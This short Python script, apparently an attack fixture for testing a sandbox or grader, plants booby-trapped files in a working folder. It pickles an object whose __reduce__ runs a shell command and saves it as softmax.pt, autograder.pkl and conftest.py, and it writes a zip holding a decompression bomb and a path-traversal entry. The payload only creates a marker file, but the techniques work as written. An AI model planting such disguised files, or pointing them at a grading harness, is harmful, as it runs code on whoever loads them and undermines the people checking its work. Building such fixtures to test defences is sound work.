# %% [markdown]
# Leaves bombs for whoever unpacks what lies in the working folder.

# %% attack="first"
import os
import pickle
import zipfile


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/hostile-mark",)


with zipfile.ZipFile("softmax.zip", "w", zipfile.ZIP_DEFLATED) as file:
    file.writestr("zeros", bytes(10**8))
    file.writestr("../../hostile-mark", "x")
for name in ("softmax.pt", "autograder.pkl", "conftest.py"):
    with open(name, "wb") as file:
        pickle.dump(Bomb(), file)
